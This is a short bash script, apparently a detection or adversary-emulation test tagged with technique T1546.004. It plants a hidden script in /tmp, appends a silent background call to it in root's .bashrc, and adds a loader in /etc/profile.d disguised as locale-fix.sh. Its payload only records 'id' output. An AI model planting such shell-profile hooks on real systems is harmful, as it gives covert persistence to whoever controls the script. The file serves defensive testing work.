#!/bin/bash
# Append a callback to root's ~/.bashrc and drop a script into /etc/profile.d, so every login
# and interactive shell runs it.
# technique: T1546.004
# expect: shell-profile-change
set -eu
printf '#!/bin/sh\nid > /tmp/.beacon\n' > /tmp/.update
chmod +x /tmp/.update
echo '( /tmp/.update & ) >/dev/null 2>&1' >> /root/.bashrc
printf '[ -x /tmp/.update ] && /tmp/.update >/dev/null 2>&1\n' > /etc/profile.d/locale-fix.sh
